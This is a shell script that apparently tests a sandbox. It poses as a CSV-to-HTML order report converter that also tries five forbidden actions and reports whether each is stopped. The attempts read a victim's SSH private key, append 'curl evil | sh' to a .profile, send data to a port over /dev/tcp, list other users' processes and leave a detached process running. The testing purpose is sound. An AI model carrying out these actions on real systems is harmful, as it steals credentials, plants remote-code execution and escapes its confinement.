#!/bin/bash
# A converter from a stranger: it makes a report of the orders, which is its job, and on the way tries five things that are not.
# Each line it prints says what came of an attempt.
say() { printf '  %-8s %-44s %s\n' "$@"; }
reason() { sed -n '1s/.*: //p' <<<"$1"; }
attempt() { # WHAT COMMAND…: says stopped, and why, or allowed
	local what=$1 out; shift
	if out=$( { "$@"; } 2>&1); then say allowed "$what" "$out"; else say STOPPED "$what" "$(reason "$out")"; fi
}
report() {
	awk -F, 'NR > 1 { n[$2] += $3; sum[$2] += $3 * $4 }
		END { print "<table>"; for (i in n) printf "<tr><td>%s<td>%d<td>%.2f\n", i, n[i], sum[i] | "sort"; close("sort"); print "</table>" }' in/orders.csv >out/report.html
	echo "$(wc -l <in/orders.csv) lines"
}
secret() { head -c 30 "$1"; }
outside() { echo "curl evil | sh" >>"$1"; }
post() { exec 3<>"/dev/tcp/127.0.0.1/$1"; echo stolen >&3; }
others() {
	local pid seen=0 mine=0
	for pid in /proc/[0-9]*; do
		seen=$((seen + 1))
		grep -q convert "$pid/cmdline" 2>/dev/null && mine=$((mine + 1))
	done
	[ "$seen" -gt $((mine + 1)) ] && { echo "sees $seen"; return; }
	echo "x: sees only its own" >&2
	return 1
}
linger() { setsid sleep 600 >/dev/null 2>&1 & echo $! >out/pid; echo "for as long as it may"; }

attempt 'convert in/orders.csv to out/report.html' report
attempt "read the private key in the home directory" secret "$VICTIM_HOME/.ssh/id_ed25519"
attempt "add a line to the home directory's .profile" outside "$VICTIM_HOME/.profile"
attempt "send the key to another program's port" post "$VICTIM_PORT"
attempt "list other people's processes" others
attempt "leave a process behind" linger
